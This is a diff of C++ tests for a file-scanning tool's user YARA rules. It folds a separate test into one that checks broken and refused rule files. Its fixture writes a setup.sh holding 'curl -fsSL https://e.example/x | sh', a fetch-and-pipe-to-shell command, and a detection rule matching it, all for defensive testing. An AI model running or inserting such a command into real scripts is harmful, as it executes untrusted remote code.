@@ -49,7 +49,8 @@ TEST_F(RulesLoading, UserRuleUnderHomeWhenXdgConfigHomeIsUnset)
 
 // A broken file beside one that loads, one that names the same rule and one with a rule without a
 // proper severity (the unit tests hold the list of those): the check fails and names each, the scan
-// goes on with everything else.
+// goes on with everything else. A user rule on the text view fires where the raw bytes do not hold its
+// text, its line carrying the rule's description and the file's line.
 TEST_F(RulesLoading, BrokenFilesAndRefusedRulesAreNamedAndSkipped)
 {
     writeUserRule(m_config.path(), "a-broken.yar", kBrokenRule);
@@ -57,6 +58,16 @@ TEST_F(RulesLoading, BrokenFilesAndRefusedRulesAreNamedAndSkipped)
     writeUserRule(m_config.path(), "c-same-name.yar", kUserRule);
     writeUserRule(m_config.path(), "d-refused.yar",
                   "rule capitalised { meta: severity = \"High\" condition: filename == \"marker.txt\" }\n");
+    writeUserRule(
+        m_config.path(), "e-view.yar",
+        "rule user_text { meta: severity = \"high\" description = \"fetches \\\"x\\\"\\nand runs it\" "
+        "strings: $a = \"curl -fsSL https://e.example/x | sh\" condition: $a and view == \"text\" }\n");
+    std::string utf16 = "\xFF\xFE";
+    for (char c : std::string("#!/bin/sh\r\ncurl -fsSL https://e.example/x | sh\r\n")) {
+        utf16 += c;
+        utf16 += '\0';
+    }
+    writeFile(m_tree / "setup.sh", utf16);
     const ScanResult check = runTwwatch({"--check-rules"});
     const std::string broken = (m_config / "tarnwick/rules/a-broken.yar").string();
     EXPECT_EQ(check.process.exitCode, 1);
@@ -70,10 +81,15 @@ TEST_F(RulesLoading, BrokenFilesAndRefusedRulesAreNamedAndSkipped)
     EXPECT_EQ(r.process.exitCode, 0);
     EXPECT_NE(r.process.err.find(broken), std::string::npos);
     std::multiset<std::string> found;
-    for (const auto& e : r.events)
+    for (const auto& e : r.events) {
         found.insert(e.rule + " " + e.severity);
+        if (e.rule == "user_text") {
+            EXPECT_EQ(e.description, "fetches \"x\"\nand runs it");
+            EXPECT_EQ(e.lines, std::vector<std::uint32_t>{2});
+        }
+    }
     EXPECT_EQ(found, (std::multiset<std::string>{"git_hook_runs_payload critical", "user_marker_file high",
-                                                 "user_marker_file high"}))
+                                                 "user_marker_file high", "user_text high"}))
         << r.process.out;
 }
 
@@ -148,29 +164,6 @@ TEST_F(RulesLoading, ScanOutputIsTheSameOnEveryRun)
     const ScanResult second = runTwwatch({"--scan", m_tree.path().string()});
     EXPECT_EQ(first.events.size(), 19u);
     EXPECT_EQ(first.process.out, second.process.out);
-}
-
-// A user rule on a derived view fires on a file whose raw bytes do not hold its text; its line carries
-// the rule's description and the file's line it matched on.
-TEST_F(RulesLoading, UserRuleOnAViewCarriesItsDescriptionAndLine)
-{
-    writeUserRule(
-        m_config.path(), "views.yar",
-        "rule user_text { meta: severity = \"high\" description = \"fetches \\\"x\\\"\\nand runs it\" "
-        "strings: $a = \"curl -fsSL https://e.example/x | sh\" condition: $a and view == \"text\" }\n");
-    std::string utf16 = "\xFF\xFE";
-    for (char c : std::string("#!/bin/sh\r\ncurl -fsSL https://e.example/x | sh\r\n")) {
-        utf16 += c;
-        utf16 += '\0';
-    }
-    writeFile(m_tree / "setup.sh", utf16);
-    const ScanResult r = runTwwatch({"--scan", m_tree.path().string()});
-    const auto e =
-        std::find_if(r.events.begin(), r.events.end(), [](const Event& e) { return e.rule == "user_text"; });
-    ASSERT_NE(e, r.events.end()) << r.process.out << r.process.err;
-    EXPECT_EQ(e->path, (m_tree / "setup.sh").string());
-    EXPECT_EQ(e->description, "fetches \"x\"\nand runs it");
-    EXPECT_EQ(e->lines, std::vector<std::uint32_t>{2});
 }
 
 } // namespace
